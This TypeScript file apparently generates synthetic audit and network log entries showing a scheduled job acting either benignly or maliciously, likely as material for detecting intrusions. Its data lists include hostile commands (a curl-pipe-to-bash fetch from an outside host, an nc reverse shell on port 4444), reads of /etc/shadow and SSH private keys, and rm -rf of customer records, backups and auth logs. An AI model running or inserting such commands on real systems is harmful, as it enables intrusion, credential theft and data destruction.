import type { Step, Story } from '../scenario.ts'
import { entry } from './entry.ts'
import { hiddenPath } from './hidden-path.ts'

/** What a job does when its time has come: against the house, or the work it was made for. */
export function firedAction(story: Story, key: string, pid: number, uid: number): readonly Step[] {
  const { either, make, whole, pick } = story
  const hidden = hiddenPath(story, `${key}/hid`)
  const outside = make.outsideAddress(`${key}/out`)
  const inside = make.insideAddress(`${key}/in`)
  const address = either(outside, inside)
  const moved = entry(
    'netflow',
    'connection',
    {
      pid,
      dst_ip: address,
      dst_port: either(pick(`${key}/port`, [443, 4444, 8443, 8080]), pick(`${key}/port2`, [443, 873, 22])),
      bytes_out: either(whole(`${key}/big`, 200000, 9000000), whole(`${key}/small`, 300, 9000)),
      state: 'established',
    },
    [
      '{pid} -> {dst_ip}:{dst_port} {state}, {bytes_out} bytes out',
      'outbound connection to {dst_ip}:{dst_port}, {bytes_out} bytes',
    ],
    [1, 9],
  )
  const read = entry(
    'audit',
    'open',
    {
      pid,
      uid: either(0, uid),
      path: either(
        pick(`${key}/secret`, [
          '/etc/shadow',
          '/etc/passwd',
          '/root/.ssh/id_rsa',
          '/var/lib/app/customers.db',
        ]),
        pick(`${key}/plain`, ['/var/log/app/app.log', '/srv/app/config.yaml', '/var/www/html/index.html']),
      ),
      result: 'success',
    },
    ['open {path} uid={uid}: {result}', '{path} read by pid {pid} (uid {uid})'],
    [1, 9],
  )
  const removed = entry(
    'audit',
    'unlink',
    {
      pid,
      uid,
      path: either(
        pick(`${key}/rm`, [
          '/var/data/customer-records',
          '/srv/db/main',
          '/var/backups',
          '/var/log/auth.log',
        ]),
        pick(`${key}/old`, ['/tmp/app-cache', '/var/backups/old', '/var/log/app/old.gz']),
      ),
      cmd: either('rm -rf', 'find -mtime +30 -delete'),
      files: whole(`${key}/files`, 9, 900),
    },
    ['{cmd} {path}: {files} files', '{files} files under {path} removed by {cmd}'],
    [1, 20],
  )
  const brought = entry(
    'audit',
    'exec',
    {
      pid: make.pid(`${key}/child`),
      ppid: pid,
      uid: either(0, uid),
      euid: either(0, uid),
      cmd: either(
        pick(`${key}/cmd`, [
          `curl -s http://${outside}/p | bash`,
          `bash ${hidden}`,
          `nc ${outside} 4444 -e /bin/sh`,
          `chmod +x ${hidden} && ${hidden} -d`,
        ]),
        pick(`${key}/cmd2`, [
          `rsync -a /var/log/app ${inside}:/backup`,
          'gzip -9 /var/log/app/app.log.1',
          '/usr/bin/logger -t job done',
          'pg_dump -Fc app',
        ]),
      ),
    },
    ['exec "{cmd}" ppid={ppid} uid={uid} euid={euid}', 'child of {ppid}: {cmd} (uid {uid})'],
    [1, 9],
  )
  const sets = [
    [read, moved],
    [brought, moved],
    [removed],
    [read, brought],
    [brought, removed],
    [brought, read, moved],
  ]
  return pick(`${key}/set`, sets)
}
